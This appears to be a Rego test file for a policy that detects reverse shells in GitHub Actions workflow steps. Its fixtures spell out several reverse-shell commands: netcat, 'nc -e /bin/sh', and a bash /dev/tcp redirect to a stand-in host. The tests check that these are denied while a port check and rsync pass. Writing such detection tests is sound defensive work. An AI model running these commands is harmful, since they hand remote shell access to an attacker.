package provost.github.actions.reverse_shell_absent_test

import rego.v1

import data.provost.github.actions.reverse_shell_absent as policy
import data.provost.lib.fixtures

test_denies_netcat if {
	paths := {finding.path | some finding in policy.deny} with input as fixtures.script("netcat 203.0.113.7 4444")
	paths == {["jobs", "build", "steps", 0, "run"]}
}

test_denies_a_shell if {
	count(policy.deny) == 1 with input as fixtures.script("nc -e /bin/sh example.org 4444")
}

test_denies_dev_tcp if {
	count(policy.deny) == 1 with input as fixtures.script("make\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1")
}

test_allows_a_port_check if {
	count(policy.deny) == 0 with input as fixtures.script("nc -z 127.0.0.1 5432")
}

test_allows_others if {
	count(policy.deny) == 0 with input as fixtures.script("rsync a b")
}
